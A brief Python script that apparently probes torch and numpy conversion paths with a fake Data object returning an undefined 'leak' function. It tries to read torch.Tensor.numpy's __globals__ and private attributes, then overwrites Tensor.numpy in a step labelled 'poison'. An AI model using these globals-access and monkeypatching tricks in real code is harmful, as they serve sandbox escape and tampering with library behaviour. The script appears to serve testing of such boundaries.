# source: own
import numpy as np, torch
class Data:
    def tolist(self): leak(self); return [[leak]]
    def item(self): return leak
    dtype = 'torch.float64.__class__'
    shape = (10**9,)
for call in (lambda: torch.tensor(Data()), lambda: torch.from_numpy(Data()), lambda: np.asarray(Data()), lambda: torch.tensor([Data()]),
             lambda: torch.Tensor.numpy(Data()), lambda: torch.Tensor.numpy(np.zeros(2)), lambda: np.ndarray.tolist(torch.tensor([1.0])),
             lambda: torch.tensor(np.zeros(2))._node, lambda: getattr(torch.Tensor.numpy, '__globals__')):
    try:
        found = call()
        leak(found)
    except BaseException:
        pass
try:
    torch.Tensor.numpy = leak
    leak('poison: Tensor.numpy')
except BaseException:
    pass
leak(torch.tensor(np.arange(3)))
